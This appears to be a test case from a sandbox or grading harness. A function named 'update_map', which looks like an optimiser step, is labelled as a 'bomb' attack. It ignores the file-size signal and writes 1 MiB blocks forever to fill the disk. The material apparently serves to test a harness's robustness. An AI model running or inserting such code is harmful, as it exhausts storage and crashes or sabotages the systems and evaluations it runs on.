# attack: writes one file until the disk is full
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout, crash
# module: saddle

import signal


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("large", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
